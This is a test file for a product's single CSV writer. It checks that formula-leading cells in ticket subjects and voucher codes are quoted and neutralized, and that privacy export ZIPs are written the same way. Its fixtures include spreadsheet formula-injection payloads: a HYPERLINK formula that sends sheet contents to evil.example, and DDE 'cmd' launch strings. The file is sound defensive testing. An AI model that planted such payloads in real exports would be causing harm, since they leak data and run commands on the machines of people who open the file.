import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { parseCsv } from "../../server/lib/csv";
import { buildExportZip } from "../../server/domain/privacy/exportZip";
import { csvCell, recordsToCsv, toCsv } from "../../src/resources/csv";
import { voucherCodesCsv } from "../../src/resources/voucherBatches";

// The product's one CSV writer (issue 26, item 3): every CSV the portal and the server write goes
// through it, and a cell a spreadsheet would run as a formula is neutralized as OWASP recommends.

/** A subscriber's ticket subject that, live, sends the agent's sheet to the attacker; and the other starts. */
const PLANTED = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

describe("csvCell", () => {
  it.each(PLANTED)("neutralizes %j: a leading single quote, the cell quoted, its quotes doubled", (planted) => {
    const cell = csvCell(planted);
    expect(cell).toBe(`"'${planted.replaceAll('"', '""')}"`);
    // Read back, the cell is the text with its quote: a spreadsheet shows it as text, never runs it.
    expect(parseCsv(cell)).toEqual([[`'${planted}`]]);
  });

  it("quotes every text cell, so a separator inside it (a comma, a semicolon) never starts a cell of its own", () => {
    expect(csvCell("Chen, Sam")).toBe('"Chen, Sam"');
    expect(csvCell('x;=HYPERLINK("https://evil.example")')).toBe('"x;=HYPERLINK(""https://evil.example"")"');
    expect(csvCell("line\r\nbreak")).toBe('"line\r\nbreak"');
    expect(csvCell("plain")).toBe('"plain"');
  });

  it("writes numbers and booleans bare, nothing as empty, dates as ISO text and objects as JSON text", () => {
    expect(csvCell(-1500)).toBe("-1500");
    expect(csvCell(0)).toBe("0");
    expect(csvCell(true)).toBe("true");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(new Date("2026-11-27T10:00:00.000Z"))).toBe('"2026-11-27T10:00:00.000Z"');
    expect(csvCell({ amount: 1500, currency: "USD" })).toBe('"{""amount"":1500,""currency"":""USD""}"');
    expect(csvCell(Number.NaN)).toBe('"NaN"');
  });
});

describe("toCsv and recordsToCsv", () => {
  it("write RFC 4180 rows ending in CRLF that the parser reads back, formulas neutralized", () => {
    const text = toCsv([
      ["subject", "amount"],
      [PLANTED[0], 1500],
    ]);
    expect(text).toBe(
      `"subject","amount"\r\n"'=HYPERLINK(""https://evil.example/?""&A1,""Click for details"")",1500\r\n`,
    );
    expect(parseCsv(text)).toEqual([
      ["subject", "amount"],
      [`'${PLANTED[0]}`, "1500"],
    ]);
  });

  it("put every key any record has under one header, in order of appearance", () => {
    expect(recordsToCsv([{ a: 1 }, { b: "=x", a: 2 }])).toBe('"a","b"\r\n1,\r\n2,"\'=x"\r\n');
    expect(recordsToCsv([])).toBe("");
  });
});

describe("the exports write through it", () => {
  it("a voucher batch's codes (the portal's download and the server's text/csv)", () => {
    expect(
      voucherCodesCsv({ value: { amount: 1000, currency: "USD" }, expiresOn: "2030-01-31" }, [
        "7K3M-Q9XW-P2RT",
        "-1+1",
      ]),
    ).toBe(
      '"code","value_minor","currency","valid_through"\r\n"7K3M-Q9XW-P2RT",1000,"USD","2030-01-31"\r\n"\'-1+1",1000,"USD","2030-01-31"\r\n',
    );
  });

  it("the server's privacy export: every table's CSV", () => {
    const zip = unzipSync(buildExportZip({ tickets: PLANTED.map((subject, i) => ({ id: `t${i}`, subject })) }, []));
    const [header, ...rows] = parseCsv(strFromU8(zip["tickets.csv"]!));
    expect(header).toEqual(["id", "subject"]);
    expect(rows.map((row) => row[1])).toEqual(PLANTED.map((planted) => `'${planted}`));
  });
});
